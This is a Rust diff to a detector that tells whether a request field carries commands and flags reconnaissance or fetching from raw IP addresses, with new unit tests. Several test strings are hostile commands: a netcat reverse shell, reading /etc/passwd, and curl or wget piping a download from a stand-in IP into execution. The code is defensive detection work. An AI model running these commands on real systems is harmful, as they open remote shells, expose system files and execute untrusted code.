@@ -6,7 +6,7 @@ use memchr::memmem;
 use std::net::Ipv4Addr;
 
 /// Names under which APIs of builds, containers and schedules take commands.
-const TAKING: [&[u8]; 21] = [
+const TAKING: [&[u8]; 20] = [
     b"args",
     b"command",
     b"commands",
@@ -24,7 +24,6 @@ const TAKING: [&[u8]; 21] = [
     b"scripts",
     b"shell",
     b"startup_script",
-    b"steps",
     b"tasks",
     b"user_data",
     b"userdata",
@@ -75,15 +74,19 @@ pub fn takes_commands(value: &Value<'_>) -> bool {
             && reader.iter().all(part)
     };
     let named = || {
-        // Of a document within one, such as a package's manifest, its own names tell.
+        // Of a document within one its own names say something where it is a manifest, as registries take it.
         let path = if value.inner.is_empty() {
             value.name
-        } else {
+        } else if is_manifest(value.name) {
             value.inner
+        } else {
+            return false;
         };
-        let names = path.rsplit(|b| *b == b'.').take(2);
+        let mut names = path.rsplit(|b| *b == b'.');
+        let (last, parent) = (names.next(), names.next());
         let known = |name: &[u8]| TAKING.iter().any(|t| name.eq_ignore_ascii_case(t));
-        json && names.into_iter().any(known)
+        let step = parent == Some(b"steps") && matches!(last, Some(b"name" | b"run"));
+        json && (step || last.is_some_and(known) || parent.is_some_and(known))
     };
     let shell = || {
         let path = text.strip_prefix(b"/usr").unwrap_or(text);
@@ -93,7 +96,21 @@ pub fn takes_commands(value: &Value<'_>) -> bool {
         json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
     };
     let meant = script() || shell() || named();
-    meant && !spies(text) && !fetches_by_number(text)
+    meant && !spies(text) && !(runs_what_it_fetches(text) && fetches_by_number(text))
+}
+
+/// Tells the name of a document that is a manifest.
+fn is_manifest(name: &[u8]) -> bool {
+    let last = name.rsplit(|b| *b == b'.').next().unwrap_or_default();
+    matches!(last, b"manifest" | b"package" | b"config")
+}
+
+/// Tells a text that keeps what it fetches, or hands it on.
+fn runs_what_it_fetches(text: &[u8]) -> bool {
+    const KEEPING: [&[u8]; 5] = [b"|", b"wget", b" -o", b" -O", b"chmod"];
+    KEEPING
+        .iter()
+        .any(|word| memmem::find(text, word).is_some())
 }
 
 /// Tells a link to a machine of the internet by its number: what builds fetch has a name, or stands within
@@ -105,7 +122,11 @@ fn fetches_by_number(text: &[u8]) -> bool {
         let host = &host[..host.iter().take_while(part).count()];
         let address = std::str::from_utf8(host).unwrap_or_default().parse();
         address.is_ok_and(|address: Ipv4Addr| {
-            !(address.is_private()
+            // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
+            let [first, second, ..] = address.octets();
+            let is_shared = first == 100 && second & 0xc0 == 64;
+            !(is_shared
+                || address.is_private()
                 || address.is_loopback()
                 || address.is_link_local()
                 || address.is_unspecified())
@@ -115,7 +136,11 @@ fn fetches_by_number(text: &[u8]) -> bool {
 
 /// Tells a text that asks who and where a machine is, or for a way back in.
 pub fn spies(text: &[u8]) -> bool {
-    SPYING.iter().any(|word| memmem::find(text, word).is_some())
+    let begins = |at: usize| at == 0 || !text[at - 1].is_ascii_alphanumeric();
+    // Whether somebody listens, `nc -z`, is asked by who waits for a database.
+    let asks = |at: usize| text[at..].starts_with(b"nc -z");
+    let said = |word: &&[u8]| memmem::find_iter(text, word).any(|at| begins(at) && !asks(at));
+    SPYING.iter().any(said)
 }
 
 #[cfg(test)]
@@ -130,6 +155,8 @@ mod tests {
             (Part::Json, "workflow_job.steps.name", "", true),
             (Part::Json, "command", "host", false),
             (Part::Json, "package.manifest", "", false),
+            (Part::Json, "host", "run", false),
+            (Part::Json, "order.steps.note", "", false),
             (Part::Query, "q", "scripts.test", false),
         ] {
             let value = Value {
@@ -139,6 +166,37 @@ mod tests {
                 ..testing::value(b"echo \"no test\" && exit 1")
             };
             assert_eq!(takes_commands(&value), want, "{name} {inner}");
+        }
+    }
+
+    #[test]
+    fn spying_is_told_from_copying_and_waiting() {
+        for (text, want) in [
+            ("nc -e /bin/sh 192.0.2.1 80", true),
+            ("true;nc -l 80", true),
+            ("rsync -avz dist/ www.example.com:/var/www", false),
+            ("until nc -z db 5432; do sleep 1; done", false),
+            ("cat /etc/passwd", true),
+            ("htpasswd -b users a b", false),
+        ] {
+            assert_eq!(spies(text.as_bytes()), want, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_fetched_by_number_is_not_run() {
+        for (text, want) in [
+            ("curl http://192.0.2.1/m | sh", false),
+            ("wget http://192.0.2.1/m; ./m", false),
+            ("curl --retry 3 http://203.0.113.9:8080/health", true),
+            ("curl http://100.64.1.2/a | jq .", true),
+        ] {
+            let value = Value {
+                part: Part::Json,
+                name: b"command",
+                ..testing::value(text.as_bytes())
+            };
+            assert_eq!(takes_commands(&value), want, "{text}");
         }
     }
 }
